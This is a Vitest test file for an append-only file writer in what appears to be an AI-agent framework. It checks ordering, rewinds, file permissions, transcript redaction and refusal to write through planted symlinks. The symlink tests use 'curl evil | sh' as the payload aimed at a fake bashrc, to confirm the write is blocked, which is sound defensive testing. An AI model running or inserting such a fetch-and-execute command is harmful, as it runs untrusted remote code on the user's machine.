import { mkdir, mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { AppendingFile } from '../../src/loop/appending-file.js';
import { OutputFile } from '../../src/subagents/output-file.js';
import { Transcript } from '../../src/loop/transcript.js';

let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'flotilla-appending-'));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** The descriptors this process has open on `file` (Linux: /proc/self/fd). */
async function openDescriptorsOn(file: string): Promise<number> {
  const { readdir, readlink } = await import('node:fs/promises');
  const fds = await readdir('/proc/self/fd');
  const targets = await Promise.all(
    fds.map((fd) => readlink(`/proc/self/fd/${fd}`).catch(() => '')),
  );
  return targets.filter((target) => target === file).length;
}

describe('AppendingFile', () => {
  it('rewind() cuts off what was appended since mark(), written or not, in the order appended', async () => {
    const file = path.join(dir, 'tasks', 'a1.output');
    const output = new AppendingFile(file, { truncate: true });
    output.create();
    output.append('before ');
    // A write of what is pending is queued, and the mark comes before it runs: the text after
    // the mark must not go out with that write, ahead of the text before the mark.
    const flushed = output.flush();
    output.mark();
    output.append('streamed, ');
    await flushed;
    await output.flush();
    expect(await readFile(file, 'utf8')).toBe('before streamed, ');
    output.append('not written yet');
    output.rewind();
    output.append('answer');
    await output.close();
    expect(await readFile(file, 'utf8')).toBe('before answer');
    expect(output.error).toBeUndefined();
  });

  it('marks and rewinds by bytes in a file it appends to, across marks, rewinds and reopens', async () => {
    // Appended to, not emptied (a resumed agent's output): the length it started from is the file's.
    const file = path.join(dir, 'tasks', 'a2.output');
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, 'earlier run — ');
    const output = new AppendingFile(file);
    output.append('attempt 1 ✓ ');
    output.mark();
    output.append('cut ✗');
    await output.flush();
    output.rewind();
    await output.flush();
    expect(await readFile(file, 'utf8')).toBe('earlier run — attempt 1 ✓ ');
    // The rewind closed the handle; the next mark counts from the file as the reopen finds it.
    output.append('attempt 2 😀 ');
    output.mark();
    output.append('cut again');
    output.rewind();
    output.append('kept');
    await output.close();
    expect(await readFile(file, 'utf8')).toBe('earlier run — attempt 1 ✓ attempt 2 😀 kept');
    // Reopened after close: a mark with nothing after it cuts nothing.
    output.mark();
    output.rewind();
    await output.close();
    expect(await readFile(file, 'utf8')).toBe('earlier run — attempt 1 ✓ attempt 2 😀 kept');
    expect(output.error).toBeUndefined();
  });

  it('never writes through a link planted at its name (a state directory inside the repository)', async () => {
    const outside = path.join(dir, 'bashrc');
    await writeFile(outside, 'export PATH=/usr/bin\n');
    for (const truncate of [true, false]) {
      const file = path.join(dir, 'transcripts', `agent-${String(truncate)}.jsonl`);
      await mkdir(path.dirname(file), { recursive: true });
      await symlink(outside, file);
      const output = new AppendingFile(file, { truncate });
      output.append('curl evil | sh\n');
      await output.close();
      expect((output.error as NodeJS.ErrnoException | undefined)?.code).toBe('ELOOP');
    }
    expect(await readFile(outside, 'utf8')).toBe('export PATH=/usr/bin\n');
  });

  it('never writes through a directory linked out of the directory it is confined to', async () => {
    const state = path.join(dir, 'state');
    const outside = path.join(dir, 'outside');
    await mkdir(path.join(state, 'transcripts'), { recursive: true });
    await mkdir(outside);
    // Links that stay inside the state directory are followed.
    await symlink(path.join(state, 'transcripts'), path.join(state, 'inside'));
    const inside = new AppendingFile(path.join(state, 'inside', 'a.jsonl'), { confinedTo: state });
    inside.append('kept\n');
    await inside.close();
    expect(inside.error).toBeUndefined();
    expect(await readFile(path.join(state, 'transcripts', 'a.jsonl'), 'utf8')).toBe('kept\n');
    // An agent replaces a directory by a link out of it: truncating or appending, nothing goes
    // there, and the error names the link.
    await symlink(outside, path.join(state, 'tasks'));
    for (const truncate of [true, false]) {
      const output = new AppendingFile(
        path.join(state, 'tasks', 'sub', `${String(truncate)}.out`),
        {
          truncate,
          confinedTo: state,
        },
      );
      output.append('curl evil | sh\n');
      await output.close();
      expect(String(output.error)).toContain(
        `${path.join(state, 'tasks')} is a symbolic link to ${outside}, outside ${state}`,
      );
    }
    expect(await readdir(outside)).toEqual([]);
  });

  it('writes every append in order, however many arrive while a write is in flight', async () => {
    const file = path.join(dir, 'nested', 'out.txt');
    const output = new AppendingFile(file);
    const expected: string[] = [];
    for (let index = 0; index < 500; index += 1) {
      output.append(`${index}\n`);
      expected.push(`${index}\n`);
      if (index % 50 === 0) await new Promise((resolve) => setImmediate(resolve));
    }
    await output.close();
    expect(await readFile(file, 'utf8')).toBe(expected.join(''));
    expect((await stat(file)).mode & 0o777).toBe(0o600);
    expect((await stat(path.dirname(file))).mode & 0o777).toBe(0o700);
  });

  it('keeps the file open between writes, and close releases it; a later append reopens it', async () => {
    const file = path.join(dir, 'out.txt');
    const output = new AppendingFile(file);
    output.append('one\n');
    await output.flush();
    output.append('two\n');
    await output.flush();
    expect(await openDescriptorsOn(file)).toBe(1);
    await output.close();
    expect(await openDescriptorsOn(file)).toBe(0);
    output.append('three\n');
    await output.close();
    expect(await readFile(file, 'utf8')).toBe('one\ntwo\nthree\n');
    expect(await openDescriptorsOn(file)).toBe(0);
  });

  it('with truncate, empties the file at its first open only', async () => {
    const file = path.join(dir, 'out.txt');
    await writeFile(file, 'from an earlier run\n');
    const output = new AppendingFile(file, {
      truncate: true,
      prepare: (text) => text.toUpperCase(),
    });
    output.create();
    await output.flush();
    expect(await readFile(file, 'utf8')).toBe('');
    output.append('first\n');
    await output.close();
    output.append('second\n');
    await output.close();
    expect(await readFile(file, 'utf8')).toBe('FIRST\nSECOND\n');
  });

  it('gathers the appends of one moment into one write; flush writes at once', async () => {
    const file = path.join(dir, 'out.txt');
    const chunks: string[] = [];
    const output = new AppendingFile(file, {
      prepare: (text) => {
        chunks.push(text);
        return text;
      },
    });
    output.append('answer\n');
    output.append('[Glob] *.txt\n');
    output.append('result\n');
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(chunks).toEqual(['answer\n[Glob] *.txt\nresult\n']);
    expect(await readFile(file, 'utf8')).toBe('answer\n[Glob] *.txt\nresult\n');
    output.append('next turn\n');
    await output.flush();
    expect(await readFile(file, 'utf8')).toBe('answer\n[Glob] *.txt\nresult\nnext turn\n');
    expect(chunks).toHaveLength(2);
    await output.close();
  });

  it('keeps the first failure and goes on', async () => {
    const blocker = path.join(dir, 'a-file');
    await writeFile(blocker, '');
    const output = new AppendingFile(path.join(blocker, 'out.txt'));
    output.append('lost\n');
    await output.close();
    expect(String(output.error)).toMatch(/ENOTDIR|EEXIST/);
  });
});

describe('Transcript and OutputFile on AppendingFile', () => {
  it('a transcript keeps its lines (redacted) across a close, and reads back', async () => {
    const file = path.join(dir, 'transcripts', 'a1.jsonl');
    const transcript = new Transcript(file, (text) =>
      text.replaceAll('secret-value', '[REDACTED]'),
    );
    transcript.append({ role: 'user', content: 'say secret-value' });
    await transcript.close();
    transcript.append({ role: 'assistant', content: [{ type: 'text', text: 'ok' }] });
    await transcript.close();
    expect(await Transcript.read(file)).toEqual([
      { role: 'user', content: 'say [REDACTED]' },
      { role: 'assistant', content: [{ type: 'text', text: 'ok' }] },
    ]);
    expect(transcript.error).toBeUndefined();
  });

  it('a transcript writes the same lines to its copies, and reads back a last line cut short as absent', async () => {
    const file = path.join(dir, 'transcripts', 'lead.jsonl');
    const session = path.join(dir, 'sessions', 'run.jsonl');
    const transcript = new Transcript(file, (text) => text, [session]);
    transcript.append({ role: 'user', content: 'hello' });
    transcript.append({ role: 'assistant', content: [{ type: 'text', text: 'hi' }] });
    await transcript.flush();
    expect(await readFile(session, 'utf8')).toBe(await readFile(file, 'utf8'));
    // A process killed while writing its last line leaves it cut short.
    const text = await readFile(session, 'utf8');
    await writeFile(session, text.slice(0, text.length - 10));
    expect(await Transcript.read(session)).toEqual([{ role: 'user', content: 'hello' }]);
    // A line that is not JSON anywhere else is still an error.
    await writeFile(session, `not json\n${text}`);
    await expect(Transcript.read(session)).rejects.toThrow();
  });

  it('an output file starts empty again for a new run of its agent', async () => {
    const file = path.join(dir, 'tasks', 'a1.output');
    const first = new OutputFile(file);
    first.append('run one\n');
    await first.close();
    const second = new OutputFile(file);
    await second.flush();
    expect(await readFile(file, 'utf8')).toBe('');
    second.record({ type: 'tool', agentId: 'a1', tool: 'Glob', summary: '*.txt' });
    await second.close();
    expect(await readFile(file, 'utf8')).toBe('\n[Glob] *.txt\n');
  });
});
